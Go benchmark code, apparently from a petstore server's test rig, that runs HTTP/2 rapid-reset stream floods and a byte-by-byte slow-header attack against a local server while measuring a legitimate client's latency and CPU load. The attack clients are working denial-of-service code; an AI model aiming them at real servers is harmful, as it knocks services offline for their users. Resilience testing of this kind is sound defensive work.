package main

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"example.com/petstore/internal/proof/bench/rig"
)

// http2Attacker writes frames to a server. It keeps them in memory until send.
type http2Attacker struct {
	*http2.Framer
	frames, block bytes.Buffer
	fields        *hpack.Encoder
	conn          net.Conn
	stream        uint32 // of the next request
}

// dialHTTP2 opens a connection and greets: the preface, settings, and the
// acknowledgement of the server's.
func dialHTTP2(addr string) (*http2Attacker, error) {
	conn, err := tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err != nil {
		return nil, err
	}
	a := &http2Attacker{conn: conn, stream: 1}
	a.Framer, a.fields = http2.NewFramer(&a.frames, conn), hpack.NewEncoder(&a.block)
	a.frames.WriteString(http2.ClientPreface)
	_ = a.WriteSettings() // a buffer takes everything, here and below
	_ = a.WriteSettingsAck()
	return a, a.send()
}

// begin begins a list without a key, and returns its stream.
func (a *http2Attacker) begin() uint32 {
	a.block.Reset()
	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", "/v1/pets"}} {
		_ = a.fields.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	stream := a.stream
	a.stream += 2
	_ = a.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: a.block.Bytes(), EndStream: true, EndHeaders: true})
	return stream
}

func (a *http2Attacker) send() error {
	defer a.frames.Reset()
	_, err := a.conn.Write(a.frames.Bytes())
	return err
}

// streamEnds are the ways to end a stream before its response.
var streamEnds = map[string]func(a *http2Attacker, stream uint32){
	"reset": func(a *http2Attacker, stream uint32) { _ = a.WriteRSTStream(stream, http2.ErrCodeCancel) },
	"provoked": func(a *http2Attacker, stream uint32) {
		_ = a.WriteRawFrame(http2.FrameWindowUpdate, 0, stream, make([]byte, 4))
	},
	"left": func(*http2Attacker, uint32) {}, // beyond 100 streams the server resets each
}

// floodStreams begins and ends streams on one connection until the server ends it.
func floodStreams(addr, end string) {
	a, err := dialHTTP2(addr)
	if err != nil {
		return
	}
	defer func() { _ = a.conn.Close() }()
	go func() { _, _ = io.Copy(io.Discard, a.conn) }()
	for a.stream < 1<<30 && a.send() == nil {
		for range 20 {
			streamEnds[end](a, a.begin())
		}
	}
}

// resets floods the server with streams that end so, over 20 connections without a
// key, beside a client with a key.
func resets(end string) func(bench) (string, error) {
	return func(b bench) (string, error) {
		s, err := b.startSecure("streams-" + end)
		if err != nil {
			return "", err
		}
		defer s.Stop()
		alone, err := kept(s)
		if err != nil {
			return "", err
		}
		stop, err := flood(s, 20, "streams", end)
		if err != nil {
			return "", err
		}
		defer stop()
		time.Sleep(time.Second) // until all of them send
		before, start := s.ProcessorTime(), time.Now()
		beside, err := kept(s)
		share := 100 * (s.ProcessorTime() - before).Seconds() / time.Since(start).Seconds()
		return fmt.Sprintf("a healthy client's median from %s to %s; %.0f %% of a processor", ms(alone), ms(beside), share), err
	}
}

// kept returns the median time of a list with the key, over one connection of HTTP/2,
// during a second at least.
func kept(s *rig.Server) (time.Duration, error) {
	client := rig.Client()
	defer client.CloseIdleConnections()
	request, err := http.NewRequest(http.MethodGet, "https://"+s.Addr+"/v1/pets", nil)
	if err != nil {
		return 0, err
	}
	request.Header.Set("Authorization", "Bearer "+rig.Key)
	var times []time.Duration
	for begin := time.Now(); len(times) < 101 || time.Since(begin) < time.Second; {
		start := time.Now()
		response, err := client.Do(request)
		if err != nil {
			return 0, err
		}
		_, err = io.Copy(io.Discard, response.Body)
		_ = response.Body.Close()
		if err != nil || response.StatusCode != http.StatusOK {
			return 0, fmt.Errorf("the healthy client's response was %s (%v)", response.Status, err)
		}
		times = append(times, time.Since(start))
		time.Sleep(time.Millisecond) // it is no flood itself
	}
	slices.Sort(times)
	return times[len(times)/2], nil
}

// dripping sends a header byte by byte, on a connection that has had a response.
func dripping(b bench) (string, error) {
	s, err := b.startSecure("dripping")
	if err != nil {
		return "", err
	}
	defer s.Stop()
	a, err := dialHTTP2(s.Addr)
	if err != nil {
		return "", err
	}
	defer func() { _ = a.conn.Close() }()
	a.begin()
	if err := a.send(); err != nil {
		return "", err
	}
	for frame := http2.Frame(nil); frame == nil || frame.Header().Type != http2.FrameHeaders; {
		if frame, err = a.ReadFrame(); err != nil {
			return "", err
		}
	}
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		_, _ = io.Copy(io.Discard, a.conn)
	}()
	start := time.Now()
	// The header of a frame of 1,000 bytes, and then some of them.
	for next := []byte{0, 3, 232, byte(http2.FrameHeaders), 0, 0, 0, 0, 3}; time.Since(start) < 3*time.Minute; next = []byte{0} {
		_, _ = a.conn.Write(next) // the connection may have ended
		select {
		case <-ended:
			return fmt.Sprintf("the connection ends after %.0f s", time.Since(start).Seconds()), nil
		case <-time.After(time.Second / 2):
		}
	}
	return "the connection is open after 3 minutes", nil
}
